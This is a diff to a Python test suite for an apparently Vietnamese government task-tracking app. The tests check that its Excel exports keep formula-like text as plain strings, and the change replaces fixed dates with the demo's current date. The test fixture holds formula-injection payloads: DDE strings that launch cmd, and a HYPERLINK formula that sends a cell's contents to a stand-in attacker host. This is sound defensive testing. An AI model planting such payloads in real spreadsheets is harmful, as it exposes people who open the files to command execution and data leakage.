@@ -19,7 +19,8 @@ from giamsat.reports.document import Report, Table
 from giamsat.reports.excel import render_xlsx
 from giamsat.tasks.models import ReviewState, Task, Update
 
-AS_OF = demo.AS_OF
+AS_OF = demo.as_of()  # the live demo runs to today
+DAY = f"{AS_OF:%d/%m/%Y}"
 TITLE = '=HYPERLINK("http://ke-gian.example/?d="&A1,"Bấm vào đây")'
 # Every start OWASP names: = + - @, tab and carriage return.
 UPDATE_TEXTS = {"result": "+cmd|' /C calc'!A0", "evidence": "@SUM(1+1)*cmd|' /C calc'!A0",
@@ -31,7 +32,7 @@ CARRIAGE_RETURN = "\r=1+1"
 def hostile(db):
     """Demo data with formula-like text in a task title, an approved update's fields and
     an observation's source, and a negative value."""
-    demo.generate()
+    demo.generate(today=AS_OF)
     task = Task.objects.order_by("pk").first()
     task.title = TITLE
     task.save()
@@ -123,7 +124,7 @@ def test_the_rankings_downloads_keep_a_formula_like_agency_name_as_text(hostile,
         assert "'" + TITLE in names and TITLE not in names, entity
     client.force_login(make_user("viewer"))
     sheet = client.get("/api/export/rankings.xlsx", {"chi_tieu": "ho-so-truc-tuyen-toan-trinh",
-                                                     "ngay": "31/10/2025"})
+                                                     "ngay": DAY})
     workbook = load_workbook(io.BytesIO(sheet.content))
     assert formulas(workbook) == [] and cell_of(workbook, TITLE).data_type == "s"
 
@@ -131,7 +132,7 @@ def test_the_rankings_downloads_keep_a_formula_like_agency_name_as_text(hostile,
 def test_the_download_links_and_the_api_token_get_the_same_protection(hostile, client,
                                                                       make_user):
     client.force_login(make_user("viewer"))
-    sheet = client.get("/api/export/tasks.xlsx", {"ngay": "31/10/2025"})
+    sheet = client.get("/api/export/tasks.xlsx", {"ngay": DAY})
     workbook = load_workbook(io.BytesIO(sheet.content))
     assert formulas(workbook) == [] and cell_of(workbook, TITLE).data_type == "s"
     _token, secret = create_token("Cổng dữ liệu", "viewer")
@@ -142,7 +143,7 @@ def test_the_download_links_and_the_api_token_get_the_same_protection(hostile, c
 
 def test_the_export_command_and_the_open_data_bundle(hostile, tmp_path):
     call_command("export", "tasks", "--format", "xlsx", "-o", str(tmp_path / "t.xlsx"),
-                 "--as-of", "2025-10-31", stdout=io.StringIO())
+                 "--as-of", AS_OF.isoformat(), stdout=io.StringIO())
     workbook = load_workbook(tmp_path / "t.xlsx")
     assert formulas(workbook) == [] and cell_of(workbook, TITLE).data_type == "s"
     out = io.StringIO()
@@ -175,7 +176,9 @@ def test_the_report_workbook_keeps_formulas_as_text():
 def test_the_report_command_writes_no_formula(hostile, tmp_path):
     Task.objects.update(title=TITLE)
     target = tmp_path / "h2.xlsx"
-    call_command("report", "half-year", "--year", "2025", "--half", "2", "--format", "xlsx",
+    half = "1" if AS_OF.month <= 6 else "2"  # the half-year the demo is in
+    call_command("report", "half-year", "--year", str(AS_OF.year), "--half", half,
+                 "--format", "xlsx",
                  "-o", str(target), "--no-charts", stdout=io.StringIO())
     workbook = load_workbook(target)
     assert formulas(workbook) == []
